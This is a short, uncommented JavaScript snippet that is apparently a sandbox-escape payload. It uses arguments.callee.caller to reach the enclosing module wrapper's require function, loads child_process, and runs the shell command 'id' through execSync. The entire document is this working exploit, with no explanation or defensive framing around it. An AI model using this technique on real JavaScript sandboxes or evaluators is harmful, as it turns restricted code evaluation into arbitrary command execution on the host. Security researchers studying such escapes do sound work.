function probe() {
  return arguments.callee.caller;
}
probe().arguments[1]("child_process").execSync("id", {stdio: "inherit"});
